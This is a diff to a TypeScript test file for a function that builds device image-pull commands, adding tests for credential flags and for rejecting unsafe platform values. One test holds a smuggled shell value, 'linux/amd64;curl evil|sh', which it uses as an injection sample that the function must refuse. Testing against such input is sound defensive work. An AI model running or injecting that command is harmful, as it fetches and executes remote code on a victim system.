@@ -146,6 +146,13 @@ describe("what a selection means for a device", () => {
     );
   });
 
+  it("names the signed-in user where a private repository's pull asks for a password", () => {
+    const texts = summarize(field, [{ x1: 0, y1: 0, x2: 0, y2: 0 }], {}, { ...target, user: "alice" }).commands.map(
+      (c) => c.text,
+    );
+    expect(texts.filter((t) => / --user alice | --creds alice | --src-creds alice /.test(t)).length).toBe(3);
+  });
+
   it("costs an update as the layers the device does not hold from the old partition", () => {
     const withOld: PlatformField = {
       ...field,
@@ -167,6 +174,11 @@ describe("what a selection means for a device", () => {
     expect(summarize(field, [{ x1: 5, y1: 5, x2: 6, y2: 6 }], {}, target)).toMatchObject({
       commands: [],
       problem: expect.stringMatching(/no allotment/),
+    });
+    const hostile = { ...field, platform: "linux/amd64;curl evil|sh" };
+    expect(summarize(hostile, [{ x1: 0, y1: 0, x2: 0, y2: 0 }], {}, target)).toMatchObject({
+      commands: [],
+      problem: expect.stringMatching(/shell would misread/),
     });
     const many = Array.from({ length: 17 }, (_, i) => ({ x1: 2 * i, y1: 0, x2: 2 * i, y2: 0 }));
     expect(summarize(field, many, {}, target).problem).toMatch(/at most 16 rectangles/);
